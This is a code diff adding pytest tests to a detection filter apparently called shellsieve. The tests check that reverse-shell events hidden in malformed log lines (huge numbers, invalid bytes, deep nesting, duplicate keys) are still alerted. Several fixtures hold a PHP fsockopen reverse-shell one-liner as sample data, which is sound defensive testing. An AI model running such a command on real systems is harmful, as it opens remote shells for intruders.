@@ -81,6 +81,159 @@ def _docs(lines: list[bytes]) -> tuple[list[dict[str, Any]], Stats]:
     return [_strict(x) for x in got], stats
 
 
+class TestOutOfRange:
+    """A number out of float range raised ValidationError out of the confirm stage and killed the filter."""
+
+    @pytest.mark.parametrize("number", [b"1e400", b"-1e400", b"1" * 5000, b"-" + b"9" * 30])
+    def test_matching_event_with_a_huge_number_is_alerted(self, number: bytes) -> None:
+        """The event is alerted, every line before and after it comes out, the number is kept verbatim."""
+        line = _with(PHP, b'"x":' + number)
+        got, stats = _run([BENIGN, line, BENIGN])
+        assert got[0] == BENIGN and got[2] == BENIGN
+        doc = _strict(got[1])
+        assert rule_ids(doc) == [PHP_FSOCKOPEN]
+        assert b'"x":' + number in got[1]
+        if number != b"-" + b"9" * 30:  # fits a float: not out of range
+            assert stats.malformed["out_of_range"] == 1 and doc["shellsieve"]["malformed"] == "out_of_range"
+
+    def test_huge_number_in_a_field_a_rule_reads(self) -> None:
+        """Out of range where the typed view reads (the user, the process) fails that decode too."""
+        line = PHP.replace(b'"pid":18391', b'"pid":1e400').replace(b'"id":"0"', b'"id":1e999')
+        assert line != PHP
+        docs, _ = _docs([line])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    def test_line_by_line_path(self) -> None:
+        """A text line in the block sends it line by line: the same event is alerted there too."""
+        docs, _ = _docs([b"plain text", _with(PHP, b'"x":1e400')])
+        assert docs[0] == {"message": "plain text"} and rule_ids(docs[1]) == [PHP_FSOCKOPEN]
+
+    def test_sysmon_event_with_a_huge_number(self) -> None:
+        """A Sysmon line is decoded by the router, which caught no ValidationError either."""
+        docs, stats = _docs([_with(SYSMON, b'"x":1e400'), BENIGN])
+        assert rule_ids(docs[0]) == [WEBSHELL_RECON]
+        assert stats.formats["sysmon"] == 1
+
+    def test_non_matching_line_passes_byte_exact(self) -> None:
+        line = _with(BENIGN, b'"x":1e400')
+        got, _ = _run([line])
+        assert got == [line]
+
+
+class TestUnreadableEventsAreScanned:
+    """An event the strict decoder refuses is read by the tolerant reader, confirmed and alerted."""
+
+    @pytest.mark.parametrize("extra,reason", [
+        (b'"note":"\xff"', "invalid_utf8"),
+        (b'"note":"\\ud800"', "invalid_utf8"),
+        (b'"note":"\\udc00x\\ud800"', "invalid_utf8"),
+        (b'"x":' + b"[" * 1000 + b"]" * 1000, "too_deep"),
+        (b'"x":' + b"{\"a\":" * 1000 + b"1" + b"}" * 1000, "too_deep"),
+    ])
+    def test_matching_event_is_alerted(self, extra: bytes, reason: str) -> None:
+        docs, stats = _docs([BENIGN, _with(PHP, extra), BENIGN])
+        doc = docs[1]
+        assert rule_ids(doc) == [PHP_FSOCKOPEN]
+        assert doc["shellsieve"]["malformed"] == reason and stats.malformed[reason] == 1
+        # what a SIEM gets: the line as text, the fields the rules read, the alert
+        assert doc["message"].startswith('{"@timestamp":"2026-11-22T10:00:00.100Z"')
+        assert doc["process"]["command_line"] == "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
+        if reason == "invalid_utf8" and b"\xff" in extra:
+            assert doc["message"].endswith('"note":"\ufffd"}')
+
+    def test_invalid_byte_in_the_command_line_itself(self) -> None:
+        line = PHP.replace(b"9001);'\"", b"9001);' #\xfe\"")
+        assert line != PHP
+        docs, stats = _docs([line])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and stats.malformed["invalid_utf8"] == 1
+        assert docs[0]["process"]["command_line"].endswith("#\ufffd")
+
+    def test_truncated_event_is_alerted(self) -> None:
+        """A line cut short (the shipper's buffer) still holds the command line."""
+        docs, stats = _docs([PHP[: PHP.index(b',"working_directory"')]])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and stats.malformed["invalid_json"] == 1
+
+    def test_sysmon_event_with_an_invalid_byte(self) -> None:
+        docs, stats = _docs([_with(SYSMON, b'"note":"\xff"')])
+        assert rule_ids(docs[0]) == [WEBSHELL_RECON] and docs[0]["shellsieve"]["malformed"] == "invalid_utf8"
+        assert stats.malformed["invalid_utf8"] == 1
+
+    def test_non_matching_unreadable_lines_are_wrapped(self) -> None:
+        """Without a hit the wrap is as before; only replaced bytes add the marker."""
+        deep = _with(BENIGN, b'"x":' + b"[" * 1000 + b"]" * 1000)
+        docs, stats = _docs([_with(BENIGN, b'"a":"\xff"'), deep, b'{"a":'])
+        assert docs[0]["shellsieve"] == {"malformed": "invalid_utf8"} and "\ufffd" in docs[0]["message"]
+        assert docs[1] == {"message": deep.decode()} and docs[2] == {"message": '{"a":'}
+        assert stats.malformed["invalid_utf8"] == 1 and stats.malformed["too_deep"] == 1
+
+
+class TestDuplicateKeys:
+    """msgspec keeps the last of duplicate keys: an earlier occurrence of a field a rule reads was hidden."""
+
+    BASE = (b'{"@timestamp":"2026-11-22T10:00:00.100Z","event":{"category":["process"],"type":["start"]},'
+            b'"host":{"os":{"type":"linux"}},"process":{"name":"php","args":["php"],%s},"user":{"name":"root"}}')
+    SHELL = b'"command_line":"php -r \'$s=fsockopen(\\"10.10.10.10\\",9001);\'"'
+
+    def test_baseline(self) -> None:
+        """The reverse shell alone alerts; `ls` alone does not."""
+        docs, _ = _docs([self.BASE % self.SHELL, self.BASE % b'"command_line":"ls"'])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and rule_ids(docs[1]) == []
+
+    def test_first_occurrence_is_scanned(self) -> None:
+        line = self.BASE % (self.SHELL + b',"command_line":"ls"')
+        docs, stats = _docs([BENIGN, line])
+        assert rule_ids(docs[1]) == [PHP_FSOCKOPEN]
+        assert docs[1]["shellsieve"]["malformed"] == "duplicate_key" and stats.malformed["duplicate_key"] == 1
+        assert docs[1]["process"]["command_line"][1] == "ls"  # every occurrence kept, as an array
+
+    def test_duplicate_object(self) -> None:
+        shell = b'"process":{"name":"php",' + self.SHELL + b"}"
+        line = self.BASE.replace(b'"process":{', shell + b',"process":{') % b'"command_line":"ls"'
+        docs, _ = _docs([line])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    def test_no_duplicate_no_change(self) -> None:
+        """A candidate without hits and without duplicates is forwarded as it came, uncounted."""
+        line = self.BASE % b'"command_line":"php -v"'
+        got, stats = _run([line])
+        assert got == [line] and not stats.malformed
+
+    def test_cheap_test_has_no_false_negative_for_spelt_quotes(self) -> None:
+        """`\\u0022:` in a value could make up for a lost key in the count: a `\\u` always says maybe."""
+        assert may_hide_duplicates(b'{"c":"x","c":"y","v":"\\u0022:"}')
+        assert may_hide_duplicates(b'{"c" :"x","c":"y"}')
+        assert may_hide_duplicates(b'{"a":{"c":1,"c":2}}')
+        assert not may_hide_duplicates(b'{"a":{"c":1,"d":"\\":"}}')
+
+
+class TestHostileBytes:
+    def test_invalid_bytes_are_not_spelt_as_backslash_text(self) -> None:
+        """`\\xff` is a text the input could hold; U+FFFD and the marker tell an invalid byte."""
+        real = msgspec.json.decode(message_line(b"a\xffb"))
+        spelt = msgspec.json.decode(message_line(b"a\\xffb"))
+        assert real == {"message": "a\ufffdb", "shellsieve": {"malformed": "invalid_utf8"}}
+        assert spelt == {"message": "a\\xffb"}
+
+    def test_del_byte_in_an_alert_is_escaped(self) -> None:
+        """JSON allows a raw DEL in a string; a line we rewrite holds no raw control byte."""
+        line = _with(PHP, b'"note":"a\x7fb"')
+        got, _ = _run([line])
+        assert rule_ids(_strict(got[0])) == [PHP_FSOCKOPEN]
+        assert b"\x7f" not in got[0] and b"a\\u007fb" in got[0]
+
+    def test_text_line_with_control_bytes(self) -> None:
+        docs, _ = _docs([b"php -r '$s=fsockopen(\"1.2.3.4\",9001);' \x1b[2J\x7f\x00"])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    @settings(max_examples=150, deadline=None)
+    @given(st.lists(st.sampled_from([PHP, BENIGN, SYSMON, b"\xff", b'"\\ud800"', b"[" * 1100, b"]" * 10,
+                                     b"1e400", b'"command_line":', b",", b"}", b"{", b"\x7f", b"\\"]),
+                    min_size=1, max_size=6))
+    def test_any_splice_every_line_out_as_json(self, parts: list[bytes]) -> None:
+        """Pieces of events, hostile bytes and brackets spliced together: never a raise, each line out once."""
+        _run([b"".join(parts), PHP])
+
+
 class TestTolerantReader:
     def test_lone_surrogates_and_pairs(self) -> None:
         doc, found = read(b'{"a":"\\ud800","b":"\\ud83d\\ude00","c":"\\\\ud800","d":"\\udc00"}')
